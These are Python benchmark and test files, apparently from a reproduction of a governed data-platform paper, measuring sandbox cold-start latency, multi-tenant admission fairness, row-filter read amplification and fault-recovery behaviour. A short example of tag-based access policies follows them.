def test_sandboxed_udf_phases_visible(stack):
    ws, cluster, alice = stack

    @udf("float")
    def boost(x):
        return x * 2.0

    alice.table("main.s.sales").select(boost(col("amount")).alias("b")).collect()
    kinds = cluster.backend.telemetry.span_kinds(alice.last_trace_id)
    assert {"sandbox.exec", "executor.task", "credential.vend"} <= kinds


def test_benchmark_end_to_end_query(benchmark, stack):
    ws, cluster, alice = stack
    df = alice.table("main.s.sales").filter(col("amount") > 450.0)
    benchmark(df.collect)


def test_benchmark_plan_serialization(benchmark, stack):
    ws, cluster, alice = stack
    relation = build_client_plan(alice)
    benchmark(lambda: proto.decode_message(proto.encode_message(relation)))


def test_benchmark_analysis_only(benchmark, stack):
    ws, cluster, alice = stack
    relation = build_client_plan(alice)
    session = cluster.backend._ephemeral_session("alice")
    decoder = cluster.backend._decoder(session)
    engine = cluster.backend.engine_for(session)
    plan = decoder.relation(relation)
    benchmark(lambda: engine.analyze(plan))
