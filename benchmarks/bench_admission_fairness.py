"""Admission fairness under a saturating tenant, quantified.

One Standard cluster, one concurrency slot, and a heavy tenant flooding it
from many connections while a light tenant runs short interactive queries.
Three scenarios, identical data and cluster configuration:

- **solo**      — the light tenant alone (baseline latency).
- **fair**      — flood + the stride-scheduling WorkloadManager: the light
  tenant's next query is dispatched ahead of the flooder's backlog, so its
  p95 stays within ~2x of solo.
- **fifo**      — flood + the ``workload_fair_share=False`` baseline: one
  global arrival-order queue, so every light query waits behind the whole
  backlog (head-of-line blocking) and p95 inflates by >=4x.

Storage latency is modelled with a real per-data-file ``time.sleep`` (see
``bench_parallel_cache``), so service times are deterministic and the
flooding threads genuinely overlap in the slot pool.

Emits ``BENCH_admission_fairness.json`` with the three latency profiles and
the fair-mode ``system.access.workload_stats`` snapshot.
"""

from __future__ import annotations

import threading
import time

import pytest

from harness import print_table, write_bench_json

from repro.platform import Workspace
from repro.storage.object_store import ObjectStore

#: Modelled cloud GET latency per data file.
DATA_FILE_LATENCY_SECONDS = 0.010
#: The light tenant's table spans more files than the heavy tenant's, so a
#: light query is several times the service time of one heavy query — the
#: regime where waiting behind a full heavy backlog hurts the most.
LIGHT_FILES = 8
HEAVY_FILES = 2
ROWS_PER_FILE = 50
#: Concurrent connections of the saturating tenant (ISSUE floor: >= 8).
HEAVY_CONNECTIONS = 16
#: Sequential samples the light tenant takes per scenario.
LIGHT_SAMPLES = 12

RESULTS: dict = {}


class DataLatencyStore(ObjectStore):
    """Object store whose fetch latency applies to data files only."""

    def __init__(self, data_latency_seconds: float):
        super().__init__()
        self.data_latency_seconds = data_latency_seconds

    def get(self, path, credential):
        data = super().get(path, credential)
        if path.endswith(".part"):
            time.sleep(self.data_latency_seconds)
        return data


def _build_workspace() -> Workspace:
    ws = Workspace(store=DataLatencyStore(DATA_FILE_LATENCY_SECONDS))
    ws.add_user("admin", admin=True)
    ws.add_user("heavy")
    ws.add_user("light")
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")
    ctx = ws.catalog.principals.context_for("admin")
    from repro.engine.types import FLOAT, INT, Field, Schema

    for table, files in (("light_t", LIGHT_FILES), ("heavy_t", HEAVY_FILES)):
        ws.catalog.create_table(
            f"main.s.{table}",
            Schema((Field("id", INT), Field("v", FLOAT))),
            owner="admin",
        )
        for commit in range(files):
            base = commit * ROWS_PER_FILE
            ws.catalog.write_table(
                f"main.s.{table}",
                {
                    "id": list(range(base, base + ROWS_PER_FILE)),
                    "v": [float(i) for i in range(ROWS_PER_FILE)],
                },
                ctx,
            )
    admin = ws.create_standard_cluster(name="setup").connect("admin")
    for user, table in (("heavy", "heavy_t"), ("light", "light_t")):
        admin.sql(f"GRANT USE CATALOG ON main TO {user}")
        admin.sql(f"GRANT USE SCHEMA ON main.s TO {user}")
        admin.sql(f"GRANT SELECT ON main.s.{table} TO {user}")
    return ws


def _make_cluster(ws: Workspace, name: str, fair_share: bool):
    """A single-slot, single-executor cluster so contention is real and
    per-query service time is deterministic (serial file fetches)."""
    return ws.create_standard_cluster(
        name=name,
        workload_slots=1,
        workload_fair_share=fair_share,
        num_executors=1,
    )


def _light_p95(cluster, with_flood: bool) -> tuple[float, list[float]]:
    """p95 (and all samples) of the light tenant's query latency."""
    light = cluster.connect("light")
    light_query = "SELECT count(*) AS n FROM main.s.light_t"
    expected = [(LIGHT_FILES * ROWS_PER_FILE,)]
    assert light.sql(light_query).collect() == expected  # warm caches

    stop = threading.Event()
    flooders: list[threading.Thread] = []
    flood_errors: list[Exception] = []
    if with_flood:
        heavy_query = "SELECT count(*) AS n FROM main.s.heavy_t"

        def flood(client) -> None:
            try:
                while not stop.is_set():
                    client.sql(heavy_query).collect()
            except Exception as exc:  # pragma: no cover - fails the bench
                flood_errors.append(exc)

        clients = [cluster.connect("heavy") for _ in range(HEAVY_CONNECTIONS)]
        clients[0].sql(heavy_query).collect()  # warm caches once
        flooders = [
            threading.Thread(target=flood, args=(c,), daemon=True)
            for c in clients
        ]
        for t in flooders:
            t.start()
        # Let the flood saturate the slot + queue before sampling.
        deadline = time.monotonic() + 10.0
        while time.monotonic() < deadline:
            if cluster.workload_manager.queue_depth() >= HEAVY_CONNECTIONS // 2:
                break
            time.sleep(0.005)

    samples: list[float] = []
    try:
        for _ in range(LIGHT_SAMPLES):
            start = time.perf_counter()
            assert light.sql(light_query).collect() == expected
            samples.append(time.perf_counter() - start)
    finally:
        stop.set()
        for t in flooders:
            t.join(timeout=60)
    assert not flood_errors, flood_errors
    ordered = sorted(samples)
    p95 = ordered[max(0, int(round(0.95 * (len(ordered) - 1))))]
    return p95, samples


def test_admission_fairness():
    """Light-tenant p95: solo vs fair-share manager vs FIFO baseline."""
    ws = _build_workspace()

    solo_p95, solo_samples = _light_p95(
        _make_cluster(ws, "solo", fair_share=True), with_flood=False
    )
    fair_cluster = _make_cluster(ws, "fair", fair_share=True)
    fair_p95, fair_samples = _light_p95(fair_cluster, with_flood=True)
    fifo_p95, fifo_samples = _light_p95(
        _make_cluster(ws, "fifo", fair_share=False), with_flood=True
    )

    fair_ratio = fair_p95 / solo_p95
    fifo_ratio = fifo_p95 / solo_p95
    print_table(
        f"Light-tenant p95 vs {HEAVY_CONNECTIONS} flooding connections "
        f"(1 slot)",
        ["scenario", "p95 ms", "vs solo", "median ms"],
        [
            ["solo", f"{solo_p95 * 1000:.1f}", "1.00x",
             f"{sorted(solo_samples)[len(solo_samples) // 2] * 1000:.1f}"],
            ["fair-share", f"{fair_p95 * 1000:.1f}", f"{fair_ratio:.2f}x",
             f"{sorted(fair_samples)[len(fair_samples) // 2] * 1000:.1f}"],
            ["fifo", f"{fifo_p95 * 1000:.1f}", f"{fifo_ratio:.2f}x",
             f"{sorted(fifo_samples)[len(fifo_samples) // 2] * 1000:.1f}"],
        ],
    )

    snapshot = fair_cluster.workload_manager.stats_snapshot()
    RESULTS["fairness"] = {
        "solo_p95_ms": solo_p95 * 1000,
        "fair_p95_ms": fair_p95 * 1000,
        "fifo_p95_ms": fifo_p95 * 1000,
        "fair_ratio": fair_ratio,
        "fifo_ratio": fifo_ratio,
        "solo_samples_ms": [s * 1000 for s in solo_samples],
        "fair_samples_ms": [s * 1000 for s in fair_samples],
        "fifo_samples_ms": [s * 1000 for s in fifo_samples],
        "fair_workload_stats": snapshot,
    }
    # The fair-share manager admitted every query of both tenants.
    assert snapshot["tenant.light.admitted"] >= LIGHT_SAMPLES
    assert snapshot["shed_total"] == 0 and snapshot["admission_timeouts"] == 0
    # Acceptance: fair share isolates the light tenant; FIFO does not.
    assert fair_ratio <= 2.0, (
        f"fair-share p95 inflated {fair_ratio:.2f}x vs solo (budget: 2x)"
    )
    assert fifo_ratio >= 4.0, (
        f"FIFO baseline p95 only {fifo_ratio:.2f}x vs solo (expected >= 4x)"
    )


def test_write_json():
    """Persist the measurement (runs after the benchmark above)."""
    if "fairness" not in RESULTS:
        pytest.skip("benchmark did not run")
    path = write_bench_json(
        "admission_fairness",
        params={
            "data_file_latency_ms": DATA_FILE_LATENCY_SECONDS * 1000,
            "light_files": LIGHT_FILES,
            "heavy_files": HEAVY_FILES,
            "heavy_connections": HEAVY_CONNECTIONS,
            "light_samples": LIGHT_SAMPLES,
            "workload_slots": 1,
        },
        extra={"results": RESULTS},
    )
    print(f"\nwrote {path}")
