"""E11 — Fig. 3: cell-level FGAC and its read amplification.

The figure's point: cloud storage is object-granular, so the trusted engine
must read *all* bytes of each data file and drop rows/cells afterwards —
there is no way to fetch only the authorized subset. We sweep row-filter
selectivity and measure bytes read from storage vs rows delivered.
"""

import pytest

from harness import build_sales_workspace, print_table

NUM_ROWS = 20_000


@pytest.fixture(scope="module")
def sweep():
    rows = []
    # amount is uniform over [0, 500): thresholds give known selectivities.
    for threshold, selectivity in ((0, 1.0), (250, 0.5), (450, 0.1), (495, 0.01)):
        ws, cluster, admin = build_sales_workspace(num_rows=NUM_ROWS)
        admin.sql(f"ALTER TABLE main.s.sales SET ROW FILTER (amount >= {threshold})")
        ws.catalog.store.stats.reset()
        alice = cluster.connect("alice")
        result = alice.sql("SELECT id FROM main.s.sales").collect()
        bytes_read = ws.catalog.store.stats.bytes_read
        rows.append(
            [
                f"{selectivity * 100:.0f}%",
                len(result),
                bytes_read,
                f"{bytes_read / max(len(result), 1):.0f}",
            ]
        )
    print_table(
        f"Fig. 3 — read amplification under row filters ({NUM_ROWS} rows)",
        ["policy selectivity", "rows delivered", "bytes read from storage",
         "bytes per delivered row"],
        rows,
    )
    return rows


def test_bytes_read_constant_across_selectivity(sweep):
    """Object granularity: the engine reads everything regardless of policy."""
    reads = [r[2] for r in sweep]
    assert max(reads) - min(reads) < max(reads) * 0.05


def test_rows_delivered_track_selectivity(sweep):
    delivered = [r[1] for r in sweep]
    assert delivered[0] == NUM_ROWS
    assert delivered == sorted(delivered, reverse=True)
    assert delivered[-1] <= NUM_ROWS * 0.02


def test_amplification_grows_as_policy_narrows(sweep):
    per_row = [float(r[3]) for r in sweep]
    assert per_row == sorted(per_row)


def test_masked_cells_also_fully_read():
    """Column masks don't reduce reads either — cell-level is post-read."""
    ws, cluster, admin = build_sales_workspace(num_rows=5_000)
    baseline_ws, baseline_cluster, _ = build_sales_workspace(num_rows=5_000)

    admin.sql("ALTER TABLE main.s.sales ALTER COLUMN amount SET MASK (0.0)")
    ws.catalog.store.stats.reset()
    baseline_ws.catalog.store.stats.reset()

    cluster.connect("alice").sql("SELECT amount FROM main.s.sales").collect()
    baseline_cluster.connect("alice").sql("SELECT amount FROM main.s.sales").collect()

    masked_reads = ws.catalog.store.stats.bytes_read
    plain_reads = baseline_ws.catalog.store.stats.bytes_read
    assert masked_reads == plain_reads


def test_benchmark_filtered_scan(benchmark):
    ws, cluster, admin = build_sales_workspace(num_rows=NUM_ROWS)
    admin.sql("ALTER TABLE main.s.sales SET ROW FILTER (amount >= 450)")
    alice = cluster.connect("alice")
    benchmark(lambda: alice.sql("SELECT id FROM main.s.sales").collect())


def test_benchmark_unfiltered_scan(benchmark):
    ws, cluster, admin = build_sales_workspace(num_rows=NUM_ROWS)
    alice = cluster.connect("alice")
    benchmark(lambda: alice.sql("SELECT id FROM main.s.sales").collect())
