"""E3 — §5 cold start: sandbox provisioning latency and its amortization.

The paper: "a maximum duration of cold start in all experiments of ≈2s...
this latency occurs only for the very first Python UDF across the whole
user session. Subsequent query executions reuse the already existing
sandbox."

Four measurements:
1. the modelled production cold start (provisioning + interpreter) ≈ 2 s;
2. the *real* cold start of the subprocess sandbox backend on this machine;
3. amortization: N queries in one session pay exactly one cold start;
4. **fleet cold start**: a fresh cluster attached to a *warmed persistent
   store* (disk tier + governed result cache) reaches the warmed p50 within
   its first 5 queries, while an empty-store cluster pays the full
   analyze/compile/execute cost on every first run. This is the store
   subsystem's headline number; it lands in ``BENCH_cold_start.json``.
"""

import statistics
import time

import pytest

from harness import build_sales_workspace, print_table, write_bench_json

from repro.common.clock import VirtualClock
from repro.engine.udf import udf
from repro.sandbox import ClusterManager, Dispatcher, SandboxedUDFRuntime
from repro.sandbox.cluster_manager import (
    DEFAULT_INTERPRETER_START_SECONDS,
    DEFAULT_PROVISION_SECONDS,
)
from repro.sandbox.subprocess_sandbox import SubprocessSandbox


@udf("int")
def plus(a, b):
    return a + b


ALICE_PLUS = plus.with_owner("alice")


def test_modelled_cold_start_matches_paper():
    """Provisioning (1.8 s) + interpreter start (0.2 s) ≈ the paper's 2 s."""
    clock = VirtualClock()
    manager = ClusterManager(
        clock=clock,
        provision_seconds=DEFAULT_PROVISION_SECONDS,
        interpreter_start_seconds=DEFAULT_INTERPRETER_START_SECONDS,
    )
    dispatcher = Dispatcher(manager, clock=clock)
    dispatcher.acquire("session", "alice")
    cold = dispatcher.stats.cold_start_seconds_max
    print_table(
        "Cold start (modelled, virtual clock)",
        ["phase", "seconds"],
        [
            ["sandbox provisioning", DEFAULT_PROVISION_SECONDS],
            ["python interpreter start", DEFAULT_INTERPRETER_START_SECONDS],
            ["total (paper: ~2s)", cold],
        ],
    )
    assert cold == pytest.approx(2.0)


def test_amortization_one_cold_start_per_session():
    clock = VirtualClock()
    manager = ClusterManager(clock=clock, provision_seconds=2.0)
    dispatcher = Dispatcher(manager, clock=clock)
    runtime = SandboxedUDFRuntime(dispatcher, "session-1")
    num_queries = 20
    for _ in range(num_queries):
        runtime.run_udf(ALICE_PLUS, [[1, 2], [3, 4]])
    print_table(
        "Amortization across a session",
        ["queries", "cold starts", "warm reuses", "total cold seconds"],
        [[num_queries, dispatcher.stats.cold_starts,
          dispatcher.stats.warm_acquisitions,
          f"{dispatcher.stats.cold_start_seconds_total:.1f}"]],
    )
    assert dispatcher.stats.cold_starts == 1
    assert dispatcher.stats.warm_acquisitions == num_queries - 1


def test_new_session_pays_again_new_domain_pays_again():
    clock = VirtualClock()
    dispatcher = Dispatcher(
        ClusterManager(clock=clock, provision_seconds=2.0), clock=clock
    )
    dispatcher.acquire("s1", "alice")
    dispatcher.acquire("s1", "bob")    # new trust domain: cold
    dispatcher.acquire("s2", "alice")  # new session: cold
    assert dispatcher.stats.cold_starts == 3


#: The fleet workload: distinct governed queries a dashboard/agent fleet
#: re-runs on every fresh cluster. All deterministic and UDF-free, so every
#: one is eligible for the governed result cache.
FLEET_QUERIES = (
    "SELECT region, sum(amount) AS total FROM main.s.sales GROUP BY region",
    "SELECT count(*) AS n FROM main.s.sales WHERE amount > 250.0",
    "SELECT id, amount FROM main.s.sales WHERE region = 'US' AND amount > 400.0",
    "SELECT region, avg(amount) AS mean_amount FROM main.s.sales "
    "WHERE a > 50 GROUP BY region",
    "SELECT sum(a) AS sa, sum(b) AS sb FROM main.s.sales WHERE region = 'EU'",
    "SELECT id, amount * 2.0 AS doubled FROM main.s.sales WHERE b = 7",
)

_FLEET_ROWS = 20_000


def _fleet_workspace(store_dir: str):
    """One cluster of the fleet: disk-backed store + governed result cache.

    Every call replays the identical DDL/grant sequence, so policy and data
    epochs — and therefore every store key — line up across 'restarts'.
    """
    return build_sales_workspace(
        num_rows=_FLEET_ROWS,
        store_backend="disk",
        store_dir=store_dir,
        result_cache_enabled=True,
    )


def _timed_queries(client) -> list[float]:
    latencies = []
    for sql in FLEET_QUERIES:
        start = time.perf_counter()
        client.sql(sql).collect()
        latencies.append(time.perf_counter() - start)
    return latencies


def test_fleet_cold_start_warmed_store_vs_empty(tmp_path):
    """The store subsystem's payoff: warm once, every later cluster is warm.

    Cluster 1 warms the persistent store (kernels, plans, governed results).
    Cluster 2 — a brand-new process-equivalent on the same spill directory —
    must reach the warmed p50 within its first 5 queries. Cluster 3, on an
    empty store, must not: it pays full analyze/compile/execute per query.
    """
    warmed_dir = str(tmp_path / "fleet-store")
    # -- cluster 1: warm the store --------------------------------------------
    ws, cluster, _ = _fleet_workspace(warmed_dir)
    alice = cluster.connect("alice")
    for _ in range(2):
        _timed_queries(alice)  # populate kernel/plan/result tiers
    warmed = _timed_queries(alice)  # steady state: all result-cache hits
    warmed_p50 = statistics.median(warmed)
    assert cluster.backend.result_cache.stats.hits >= 2 * len(FLEET_QUERIES)
    ws.shutdown()

    # A fresh cluster counts as "warm" once a query comes in at warmed-p50
    # scale; 2x + 2ms absorbs disk-read + decode + timer noise while staying
    # far below the tens-of-ms analyze+compile+execute cold path.
    threshold = 2 * warmed_p50 + 0.002

    # -- cluster 2: fresh cluster, warmed store -------------------------------
    ws2, cluster2, _ = _fleet_workspace(warmed_dir)
    warm_first5 = _timed_queries(ws2.clusters["standard"].connect("alice"))[:5]
    warmed_store_hits = cluster2.backend.result_cache.stats.hits
    ws2.shutdown()

    # -- cluster 3: fresh cluster, empty store (baseline) ---------------------
    ws3, _, _ = _fleet_workspace(str(tmp_path / "empty-store"))
    cold_first5 = _timed_queries(ws3.clusters["standard"].connect("alice"))[:5]
    ws3.shutdown()

    warmed_reached = sum(1 for lat in warm_first5 if lat <= threshold)
    baseline_reached = sum(1 for lat in cold_first5 if lat <= threshold)

    def _ms(values):
        return [f"{v * 1000:.2f}" for v in values]

    print_table(
        "Fleet cold start: first-5 query latency on a fresh cluster (ms)",
        ["cluster", "q1", "q2", "q3", "q4", "q5", "<= warmed-p50 threshold"],
        [
            ["warmed store"] + _ms(warm_first5) + [f"{warmed_reached}/5"],
            ["empty store"] + _ms(cold_first5) + [f"{baseline_reached}/5"],
            ["warmed p50 (steady state)", f"{warmed_p50 * 1000:.2f}", "", "", "",
             "", f"threshold {threshold * 1000:.2f}ms"],
        ],
    )

    assert warmed_store_hits >= 1  # the fresh cluster really read the store
    assert warmed_reached >= 1, "warmed store never reached warmed p50 in 5 queries"
    assert baseline_reached == 0, "empty-store baseline was already at warmed p50"

    write_bench_json(
        "cold_start",
        params={
            "num_rows": _FLEET_ROWS,
            "num_queries": len(FLEET_QUERIES),
            "store_backend": "disk",
            "store_tiers": ["memory", "disk"],
            "result_cache_enabled": True,
            "threshold_rule": "2 * warmed_p50 + 2ms",
        },
        phases=[
            {"phase": "warmed p50 (steady state)", "ms": warmed_p50 * 1000},
            {"phase": "fresh cluster + warmed store, first 5",
             "ms": [v * 1000 for v in warm_first5],
             "reached_warmed_p50": warmed_reached},
            {"phase": "fresh cluster + empty store, first 5",
             "ms": [v * 1000 for v in cold_first5],
             "reached_warmed_p50": baseline_reached},
        ],
        extra={
            "warmed_store_result_hits_first5": warmed_store_hits,
            "warmed_reached_within_first_5": bool(warmed_reached),
            "empty_store_reached_within_first_5": bool(baseline_reached),
        },
    )


def test_benchmark_real_subprocess_cold_start(benchmark):
    """The genuine fork/exec/import cost of the subprocess backend."""

    def cold_start():
        sandbox = SubprocessSandbox("alice")
        sandbox.ping()
        sandbox.close()

    benchmark(cold_start)


def test_benchmark_warm_invocation(benchmark):
    sandbox = SubprocessSandbox("alice")
    sandbox.invoke(ALICE_PLUS, [[1], [2]])  # install + warm
    try:
        benchmark(lambda: sandbox.invoke(ALICE_PLUS, [[1, 2, 3], [4, 5, 6]]))
    finally:
        sandbox.close()
