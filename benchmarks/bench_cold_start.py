"""E3 — §5 cold start: sandbox provisioning latency and its amortization.

The paper: "a maximum duration of cold start in all experiments of ≈2s...
this latency occurs only for the very first Python UDF across the whole
user session. Subsequent query executions reuse the already existing
sandbox."

Three measurements:
1. the modelled production cold start (provisioning + interpreter) ≈ 2 s;
2. the *real* cold start of the subprocess sandbox backend on this machine;
3. amortization: N queries in one session pay exactly one cold start.
"""

import pytest

from harness import print_table

from repro.common.clock import VirtualClock
from repro.engine.udf import udf
from repro.sandbox import ClusterManager, Dispatcher, SandboxedUDFRuntime
from repro.sandbox.cluster_manager import (
    DEFAULT_INTERPRETER_START_SECONDS,
    DEFAULT_PROVISION_SECONDS,
)
from repro.sandbox.subprocess_sandbox import SubprocessSandbox


@udf("int")
def plus(a, b):
    return a + b


ALICE_PLUS = plus.with_owner("alice")


def test_modelled_cold_start_matches_paper():
    """Provisioning (1.8 s) + interpreter start (0.2 s) ≈ the paper's 2 s."""
    clock = VirtualClock()
    manager = ClusterManager(
        clock=clock,
        provision_seconds=DEFAULT_PROVISION_SECONDS,
        interpreter_start_seconds=DEFAULT_INTERPRETER_START_SECONDS,
    )
    dispatcher = Dispatcher(manager, clock=clock)
    dispatcher.acquire("session", "alice")
    cold = dispatcher.stats.cold_start_seconds_max
    print_table(
        "Cold start (modelled, virtual clock)",
        ["phase", "seconds"],
        [
            ["sandbox provisioning", DEFAULT_PROVISION_SECONDS],
            ["python interpreter start", DEFAULT_INTERPRETER_START_SECONDS],
            ["total (paper: ~2s)", cold],
        ],
    )
    assert cold == pytest.approx(2.0)


def test_amortization_one_cold_start_per_session():
    clock = VirtualClock()
    manager = ClusterManager(clock=clock, provision_seconds=2.0)
    dispatcher = Dispatcher(manager, clock=clock)
    runtime = SandboxedUDFRuntime(dispatcher, "session-1")
    num_queries = 20
    for _ in range(num_queries):
        runtime.run_udf(ALICE_PLUS, [[1, 2], [3, 4]])
    print_table(
        "Amortization across a session",
        ["queries", "cold starts", "warm reuses", "total cold seconds"],
        [[num_queries, dispatcher.stats.cold_starts,
          dispatcher.stats.warm_acquisitions,
          f"{dispatcher.stats.cold_start_seconds_total:.1f}"]],
    )
    assert dispatcher.stats.cold_starts == 1
    assert dispatcher.stats.warm_acquisitions == num_queries - 1


def test_new_session_pays_again_new_domain_pays_again():
    clock = VirtualClock()
    dispatcher = Dispatcher(
        ClusterManager(clock=clock, provision_seconds=2.0), clock=clock
    )
    dispatcher.acquire("s1", "alice")
    dispatcher.acquire("s1", "bob")    # new trust domain: cold
    dispatcher.acquire("s2", "alice")  # new session: cold
    assert dispatcher.stats.cold_starts == 3


def test_benchmark_real_subprocess_cold_start(benchmark):
    """The genuine fork/exec/import cost of the subprocess backend."""

    def cold_start():
        sandbox = SubprocessSandbox("alice")
        sandbox.ping()
        sandbox.close()

    benchmark(cold_start)


def test_benchmark_warm_invocation(benchmark):
    sandbox = SubprocessSandbox("alice")
    sandbox.invoke(ALICE_PLUS, [[1], [2]])  # install + warm
    try:
        benchmark(lambda: sandbox.invoke(ALICE_PLUS, [[1, 2, 3], [4, 5, 6]]))
    finally:
        sandbox.close()
