"""Recovery ablation — governed execution under a seeded 1% chaos schedule.

The acceptance experiment for the fault-injection layer: a 4-executor
Standard cluster runs a mixed scan + sandboxed-UDF workload while the chaos
engine fires a **seeded, 1%-per-call** fault schedule on ``storage.get`` and
``sandbox.invoke``. Two configurations:

- **recovery on** (the default: bounded scan retries, credential re-vend,
  one safe pre-delivery UDF replay) — every query must return exactly the
  fault-free results, and ``system.access.fault_stats`` must show both the
  injected triggers and the recoveries that absorbed them;
- **recovery off** (``scan_retries=0, udf_invoke_retry=False``) — the same
  seeded schedule demonstrably fails queries.

Everything is deterministic: with seed 1337 the per-point RNGs trigger
sandbox deaths on invoke calls 8 and 31 and storage faults from GET call
170 onward, so both fault kinds fire inside the 40-iteration workload.

Emits ``BENCH_fault_recovery.json``.
"""

from __future__ import annotations

import time

import pytest

from harness import print_table, write_bench_json

from repro.common.faults import FaultSpec
from repro.connect.client import col, udf
from repro.errors import LakeguardError
from repro.platform import Workspace

SEED = 1337
FAULT_RATE = 0.01
NUM_FILES = 8
ROWS_PER_FILE = 50
QUERY_ITERATIONS = 40

RESULTS: dict = {}


@udf("float")
def boosted(amount):
    return amount * 1.1


def build_cluster(scan_retries: int, udf_invoke_retry: bool):
    """A 4-executor governed cluster over an 8-file sales table."""
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    ws.catalog.create_catalog("m", owner="admin")
    ws.catalog.create_schema("m.s", owner="admin")
    cluster = ws.create_standard_cluster(
        name="chaos-bench",
        num_executors=4,
        scan_retries=scan_retries,
        udf_invoke_retry=udf_invoke_retry,
    )
    admin = cluster.connect("admin")
    admin.sql("CREATE TABLE m.s.sales (id int, region string, amount float)")
    regions = ("US", "EU", "APAC")
    for f in range(NUM_FILES):  # one commit per file -> a real multi-file scan
        values = ", ".join(
            f"({f * ROWS_PER_FILE + i}, '{regions[i % 3]}', {float(i % 17)})"
            for i in range(ROWS_PER_FILE)
        )
        admin.sql(f"INSERT INTO m.s.sales VALUES {values}")
    admin.sql("GRANT USE CATALOG ON m TO analysts")
    admin.sql("GRANT USE SCHEMA ON m.s TO analysts")
    admin.sql("GRANT SELECT ON m.s.sales TO analysts")
    return ws, cluster


def arm_chaos(ws: Workspace) -> None:
    """The acceptance schedule: 1% on storage reads and sandbox invokes."""
    ws.catalog.faults.seed = SEED
    for point in ("storage.get", "sandbox.invoke"):
        ws.catalog.faults.arm(
            point,
            FaultSpec(kind="raise", probability=FAULT_RATE, only_in_query=True),
        )


def run_workload(cluster, iterations: int, expected=None):
    """Alternate a parallel scan and a sandboxed-UDF query ``iterations``
    times; returns (first results, mismatches vs expected, failures)."""
    alice = cluster.connect("alice")
    first = None
    mismatches = 0
    failures = 0
    for _ in range(iterations):
        try:
            scan = sorted(alice.sql("SELECT id, amount FROM m.s.sales").collect())
            boosted_rows = sorted(
                alice.table("m.s.sales")
                .select(col("id"), boosted(col("amount")))
                .collect()
            )
        except LakeguardError:
            failures += 1
            continue
        result = (scan, boosted_rows)
        if first is None:
            first = result
        if expected is not None and result != expected:
            mismatches += 1
    return first, mismatches, failures


def test_recovery_on_matches_fault_free():
    ws, cluster = build_cluster(scan_retries=2, udf_invoke_retry=True)
    started = time.perf_counter()
    baseline, _, baseline_failures = run_workload(cluster, 3)
    fault_free_seconds = (time.perf_counter() - started) / 3
    assert baseline_failures == 0

    arm_chaos(ws)
    started = time.perf_counter()
    _, mismatches, failures = run_workload(
        cluster, QUERY_ITERATIONS, expected=baseline
    )
    chaos_seconds = (time.perf_counter() - started) / QUERY_ITERATIONS
    faults = ws.catalog.faults
    storage_triggers = faults.trigger_count("storage.get")
    sandbox_triggers = faults.trigger_count("sandbox.invoke")
    recovery = cluster.backend.data_source.recovery_stats
    udf_retries = cluster.backend.dispatcher.stats.udf_retries

    # The acceptance bar: faults fired on both points, every query
    # recovered, and every result was fault-free-identical.
    assert failures == 0 and mismatches == 0
    assert storage_triggers > 0 and sandbox_triggers > 0
    assert recovery.scan_retries > 0 and udf_retries > 0
    stats = ws.catalog.fault_stats()
    assert stats["faults[catalog]"]["recovered.scan.task_retry"] >= 1.0
    assert stats[f"recovery[{cluster.name}]"]["udf_retries"] >= 1.0

    RESULTS["recovery_on"] = {
        "queries": QUERY_ITERATIONS * 2,
        "failures": failures,
        "mismatches": mismatches,
        "storage_triggers": storage_triggers,
        "sandbox_triggers": sandbox_triggers,
        "scan_retries": recovery.scan_retries,
        "credential_revends": recovery.credential_revends,
        "udf_retries": udf_retries,
        "fault_free_seconds_per_iter": round(fault_free_seconds, 6),
        "chaos_seconds_per_iter": round(chaos_seconds, 6),
        "fault_stats": stats,
    }


def test_recovery_off_demonstrably_fails():
    ws, cluster = build_cluster(scan_retries=0, udf_invoke_retry=False)
    arm_chaos(ws)
    _, _, failures = run_workload(cluster, QUERY_ITERATIONS)
    faults = ws.catalog.faults
    assert failures > 0, "the same schedule must break an unprotected cluster"
    RESULTS["recovery_off"] = {
        "queries": QUERY_ITERATIONS * 2,
        "failures": failures,
        "storage_triggers": faults.trigger_count("storage.get"),
        "sandbox_triggers": faults.trigger_count("sandbox.invoke"),
    }


def test_write_json():
    """Persist the ablation (runs after the two measurements above)."""
    if "recovery_on" not in RESULTS or "recovery_off" not in RESULTS:
        pytest.skip("benchmarks did not run")
    on, off = RESULTS["recovery_on"], RESULTS["recovery_off"]
    print_table(
        "Recovery ablation — seeded 1% faults on storage.get + sandbox.invoke "
        f"(seed {SEED}, {QUERY_ITERATIONS} iterations, 4 executors)",
        ["mode", "queries", "failed", "storage faults", "sandbox faults",
         "scan retries", "udf replays"],
        [
            ["recovery on", on["queries"], on["failures"],
             on["storage_triggers"], on["sandbox_triggers"],
             on["scan_retries"], on["udf_retries"]],
            ["recovery off", off["queries"], off["failures"],
             off["storage_triggers"], off["sandbox_triggers"], 0, 0],
        ],
    )
    path = write_bench_json(
        "fault_recovery",
        params={
            "seed": SEED,
            "fault_rate": FAULT_RATE,
            "fault_points": ["storage.get", "sandbox.invoke"],
            "num_files": NUM_FILES,
            "rows_per_file": ROWS_PER_FILE,
            "iterations": QUERY_ITERATIONS,
            "num_executors": 4,
        },
        extra={"results": RESULTS},
    )
    assert path.exists()
