"""Attribute-based access control and the queryable audit log.

Tag columns once (``pii``), write one policy over the tag, and every table
carrying the tag is governed — including through eFGAC on privileged
compute. Admins then investigate access with plain SQL over
``system.access.audit``.

Run with: ``python examples/abac_and_audit.py``
"""

from repro.catalog.abac import TagMaskPolicy, TagRowFilterPolicy, hash_builder
from repro.platform import Workspace
from repro.sql.parser import parse_expression


def main() -> None:
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("ana")
    ws.add_group("analysts", ["ana"])
    ws.add_group("privacy_office", [])
    cat = ws.catalog
    cat.create_catalog("corp", owner="admin")
    cat.create_schema("corp.people", owner="admin")

    cluster = ws.create_standard_cluster()
    admin = cluster.connect("admin")
    admin.sql(
        "CREATE TABLE corp.people.employees "
        "(id int, name string, email string, country string, salary float)"
    )
    admin.sql(
        "INSERT INTO corp.people.employees VALUES "
        "(1,'Ada','ada@corp.com','DE',120.0),"
        "(2,'Bo','bo@corp.com','US',110.0),"
        "(3,'Cy','cy@corp.com','DE',130.0)"
    )
    for grant in (
        "GRANT USE CATALOG ON corp TO analysts",
        "GRANT USE SCHEMA ON corp.people TO analysts",
        "GRANT SELECT ON corp.people.employees TO analysts",
    ):
        admin.sql(grant)

    # --- tag once, govern everywhere -------------------------------------
    cat.tags.tag_column("corp.people.employees", "name", "pii")
    cat.tags.tag_column("corp.people.employees", "email", "pii")
